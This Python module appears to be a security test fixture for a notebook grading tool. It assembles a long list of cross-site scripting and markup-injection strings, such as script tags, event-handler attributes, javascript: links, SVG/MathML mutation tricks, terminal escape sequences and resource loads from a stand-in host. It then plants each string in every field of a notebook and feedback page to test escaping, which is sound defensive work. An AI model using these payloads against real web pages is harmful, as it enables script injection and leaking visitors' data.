"""Strings that act where a page lets them: each would run JS, or fetch from HOST/, in some place of a careless page."""

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from torchmark.feedback import page

JS = "window.name+='ran,';document.title='owned';alert(1)"


def strings(host: str) -> list[str]:
    """The corpus; `host`: an address that must never be asked."""
    return [
        f"<script>{JS}</script>",
        f"<script src={host}/script.js></script>",
        f"</script><script>{JS}</script>",
        f"<ScRiPt >{JS}</sCrIpT >",
        f"<img src=x onerror=\"{JS}\">",
        f"<img src=x onerror={JS}//",
        f"<img src={host}/pixel.png>",
        f"<img srcset='{host}/set.png 1x'>",
        f"![]({host}/markdown.png)",
        f"![x\" onerror=\"{JS}](x)",
        f"<image/src/onerror={JS}>",
        f"<svg onload=\"{JS}\"></svg>",
        f"<svg><script>{JS}</script></svg>",
        f"<svg><animate onbegin=\"{JS}\" attributeName=x dur=1s></svg>",
        f"<svg><style><img src=x onerror=\"{JS}\"></style></svg>",
        f"<svg><image href={host}/svg.png /></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{JS}\"></style></mglyph></table></mtext></math>",
        f"<math href=\"javascript:{JS}\">x</math>",
        f"<iframe src=\"javascript:{JS}\"></iframe>",
        f"<iframe srcdoc=\"<script>{JS}</script>\"></iframe>",
        f"<iframe src={host}/frame></iframe>",
        f"<object data={host}/object></object><embed src={host}/embed>",
        f"<object data=\"data:text/html,<script>{JS}</script>\"></object>",
        f"<link rel=stylesheet href={host}/style.css>",
        f"<link rel=prefetch href={host}/prefetch>",
        f"<style>@import '{host}/import.css'; body {{ background: url({host}/background.png) }}</style>",
        f"<div style=\"background:url({host}/inline.png)\">x</div>",
        "<div style=\"position:fixed;inset:0;background:red\">everything is right</div>",
        f"<meta http-equiv=refresh content=\"0;url={host}/refresh\">",
        f"<base href={host}/base/>",
        f"<form action={host}/form><input autofocus onfocus=\"{JS}\"><button>go</button></form>",
        f"<body onload=\"{JS}\">",
        f"<details open ontoggle=\"{JS}\">x</details>",
        f"<video src=x onerror=\"{JS}\"></video><audio src={host}/sound></audio>",
        f"<video poster={host}/poster.png></video>",
        f"<input type=image src={host}/button.png onerror=\"{JS}\">",
        f"<a href=\"javascript:{JS}\">a link</a>",
        f"<a href=\"jAvAsCrIpT&colon;{JS}\">a link</a>",
        f"<a href=\"java\tscript:{JS}\">a link</a>",
        f"<a href=\"data:text/html,<script>{JS}</script>\">a link</a>",
        f"[a link](javascript:{JS})",
        f"<javascript:{JS}>",
        f"\"><script>{JS}</script>",
        f"'><img src=x onerror=\"{JS}\">",
        f"' onmouseover='{JS}' x='",
        f"--><script>{JS}</script><!--",
        f"]]><script>{JS}</script>",
        f"</title><script>{JS}</script>",
        f"</style><script>{JS}</script>",
        f"</textarea></pre></code><script>{JS}</script>",
        f"<noscript><p title=\"</noscript><img src=x onerror='{JS}'>\"></noscript>",
        f"<template><script>{JS}</script></template>",
        f"<xmp><p title=\"</xmp><img src=x onerror='{JS}'>\"></xmp>",
        f"<listing>&lt;img src=x onerror=\"{JS}\"&gt;</listing>",
        f"&lt;script&gt;{JS}&lt;/script&gt;",
        f"$\\text{{<img src=x onerror=\"{JS}\">}}$",
        f"$\\text{{&lt;img src=x onerror=\"{JS}\"&gt;}}$",
        f"$\\href{{javascript:{JS}}}{{x}}$",
        f"$$\\begin{{array}}{{c\" onmouseover=\"{JS}}}x\\end{{array}}$$",
        f"![$x$\" onerror=\"{JS}](x)",
        f"```mermaid\n<img src=x onerror=\"{JS}\">\n```",
        f"```html\" onmouseover=\"{JS}\n<img src=x onerror=\"{JS}\">\n```",
        f"\x1b[31m<img src=x onerror=\"{JS}\">\x1b[0m",
        f"\x1b[38;2;1;2;3m\"><script>{JS}</script>",
        f"\x1b]8;;javascript:{JS}\x07a link\x1b]8;;\x07",
        f"{{{{ ''.__class__ }}}}{{% raw %}}<script>{JS}</script>",
        f"\u202e<script>{JS}</script>",
        f"<\x00script>{JS}</script>",
        "<a id=top name=top class=\"verdict skip\" href=#>x</a><form id=notebook name=title><input></form>",
    ]  # fmt: skip


KINDS = ("text/plain", "text/html", "image/svg+xml", "application/javascript", "text/latex", "text/markdown",
         "image/png", "image/jpeg", "application/json", "application/vnd.jupyter.widget-view+json")  # fmt: skip


def notebook(corpus: list[str]) -> nbformat.NotebookNode:
    """A notebook with every string in every place that a student fills, as if nothing had been taken out on the way."""
    cells = []
    for text in corpus:
        outputs = [
            new_output("stream", name="stdout", text=text),
            new_output("stream", name="stderr", text=text),
            new_output("error", ename=text, evalue=text, traceback=[text]),
            *(new_output("display_data", data={kind: text}, metadata={kind: {"width": text}}) for kind in KINDS),
            new_output("execute_result", data=dict.fromkeys(KINDS, text)),
        ]
        metadata = {
            "tags": [text.replace(",", ";")],
            "name": " ".join(text.split()),
            "language": text,
            "nbgrader": {"grade_id": text, "comment": text},
        }
        graded = {"grade": True, "solution": True, "task": False, "score": 1.0, "points": 2.0}
        cells += [
            new_code_cell(text, outputs=outputs, metadata=metadata),
            new_code_cell("x = 1", metadata={"nbgrader": {"grade_id": f"my {text}", "comment": text} | graded}),
            new_markdown_cell(text, metadata=metadata | {"attachments": {text: {"image/png": text}}}),
            new_markdown_cell("x", metadata={"nbgrader": {"grade_id": f"my {text}", "comment": text} | graded}),
            new_code_cell("check()", metadata={"nbgrader": {"grade_id": f"check-{text}"} | graded}),
            new_raw_cell(text, metadata={"raw_mimetype": "text/html"}),
        ]
    return new_notebook(cells=cells, metadata={"title": corpus[0], "language_info": {"name": corpus[0]}})


def page_with(corpus: list[str]) -> str:
    """A feedback page with every string in every place; the first one in the names of the course, too."""
    names = dict.fromkeys(("notebook", "assignment", "student"), corpus[0])
    exercises = [
        {"name": text, "points": 1.0, "max_points": 1.0, "outcome": text, "misconception": text,
         "message": f"{text}\n  note      {text}", "cases": [{"name": text, "outcome": "skipped"}]}
        for text in corpus
    ]  # fmt: skip
    judged = {"exercises": exercises, "error": corpus[0], "ended": [{"cell": text, "outcome": text} for text in corpus]}
    return page(notebook(corpus), names | {"score": 1.0, "max_score": 2.0, "late_penalty": 1.0}, judged)
